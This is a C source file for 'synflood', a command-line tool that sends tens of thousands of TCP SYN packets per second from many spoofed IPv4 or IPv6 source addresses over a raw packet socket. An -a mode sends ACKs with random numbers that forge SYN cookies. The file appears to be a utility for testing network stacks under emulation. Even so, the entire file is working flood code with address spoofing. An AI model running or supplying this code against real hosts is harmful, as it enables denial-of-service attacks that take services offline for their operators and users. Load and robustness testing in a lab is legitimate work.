// SPDX-License-Identifier: GPL-2.0
/*
 * synflood: TCP SYNs from COUNT distinct spoofed sources, as fast as one
 * AF_PACKET socket sends them, bounded by COUNT and by SECONDS.
 *
 *   synflood [-a] IFNAME DST-MAC SRC-BASE DST PORT COUNT SECONDS [SRC-BITS]
 *
 * SRC-BASE is an IPv4 or IPv6 address; packet i comes from SRC-BASE + i in
 * the low 32 bits for IPv6, and for IPv4 from one of the 2^SRC-BITS (8, at
 * most 16) addresses next to SRC-BASE with source port
 * 1024 + i / 2^SRC-BITS, so every (address, port) is distinct up to
 * 2^SRC-BITS * 64512 packets.  Ethernet source is the
 * interface's own address.  With -a, bare ACKs with random sequence and
 * acknowledgement numbers instead: forged SYN cookies.  Prints "sent N in S s (R pkt/s)"; exits 0 when
 * all COUNT went out, 3 when SECONDS ran out first, 1 on an error.
 *
 * Scapy sends about a thousand packets a second under emulation; this sends
 * tens of thousands, batched through sendmmsg().
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "pktlib.h"

#define BATCH SEND_BATCH_MAX

int main(int argc, char **argv)
{
	struct frame frames[BATCH];
	struct sockaddr_ll sll;
	struct in6_addr base6, dst6;
	struct in_addr base4, dst4;
	unsigned long count, sent = 0;
	uint8_t smac[6], dmac[6];
	double start, limit, now;
	uint16_t port;
	unsigned int bits = 8;
	uint32_t mask, rnd;
	int fd, v6, acks = 0;

	if (argc > 1 && !strcmp(argv[1], "-a")) {
		acks = 1;
		argv++;
		argc--;
	}
	if (argc != 8 && argc != 9) {
		fprintf(stderr, "usage: synflood [-a] IFNAME DST-MAC SRC-BASE DST PORT COUNT SECONDS [SRC-BITS]\n");
		return 1;
	}
	/* xorshift32: the forged numbers need only look random */
	rnd = ((uint32_t)time(NULL) ^ (uint32_t)getpid() << 16) | 1;
	if (argc == 9)
		bits = (unsigned int)atoi(argv[8]);
	if (bits < 1 || bits > 16) {
		fprintf(stderr, "synflood: SRC-BITS must be 1 to 16\n");
		return 1;
	}
	mask = (1u << bits) - 1;
	v6 = strchr(argv[3], ':') != NULL;
	if (v6 ? inet_pton(AF_INET6, argv[3], &base6) != 1 ||
		 inet_pton(AF_INET6, argv[4], &dst6) != 1 :
		 inet_pton(AF_INET, argv[3], &base4) != 1 ||
		 inet_pton(AF_INET, argv[4], &dst4) != 1) {
		fprintf(stderr, "synflood: bad address\n");
		return 1;
	}
	if (parse_mac(argv[2], dmac)) {
		fprintf(stderr, "synflood: bad MAC %s\n", argv[2]);
		return 1;
	}
	port = (uint16_t)atoi(argv[5]);
	count = strtoul(argv[6], NULL, 0);
	limit = atof(argv[7]);

	fd = packet_socket(argv[1], &sll, smac);
	if (fd < 0)
		return 1;

	start = now_s();
	while (sent < count) {
		unsigned int n = 0;

		for (; n < BATCH && sent + n < count; n++) {
			unsigned long k = sent + n;
			struct frame *f = &frames[n];
			struct tcp_spec t = {
				.flags = TH_SYN, .seq = (uint32_t)(k * 2654435761u),
				.ack = 0, .win = 64240, .doff = 5,
			};

			if (acks) {
				t.flags = TH_ACK;
				rnd ^= rnd << 13, rnd ^= rnd >> 17, rnd ^= rnd << 5;
				t.seq = rnd;
				rnd ^= rnd << 13, rnd ^= rnd >> 17, rnd ^= rnd << 5;
				t.ack = rnd;
			}

			if (v6) {
				struct in6_addr src = base6;
				uint32_t low;

				memcpy(&low, &src.s6_addr[12], 4);
				low = htonl(ntohl(low) + (uint32_t)k);
				memcpy(&src.s6_addr[12], &low, 4);
				t.sport = 1024 + (uint16_t)(k % 60000);
				t.dport = port;
				f->len = build_tcp6(f->buf, smac, dmac, &src, &dst6, &t);
			} else {
				struct in_addr src = base4;

				src.s_addr = htonl((ntohl(src.s_addr) & ~mask) | (k & mask));
				t.sport = 1024 + (uint16_t)((k >> bits) % 64512);
				t.dport = port;
				f->len = build_tcp4(f->buf, smac, dmac, src, dst4, &t);
			}
		}
		if (send_frames(fd, frames, n, "synflood"))
			return 1;
		sent += n;
		now = now_s();
		if (now - start > limit)
			break;
	}
	now = now_s() - start;
	printf("sent %lu in %.1f s (%.0f pkt/s)\n", sent, now,
	       now > 0 ? sent / now : 0.0);
	close(fd);
	return sent == count ? 0 : 3;
}
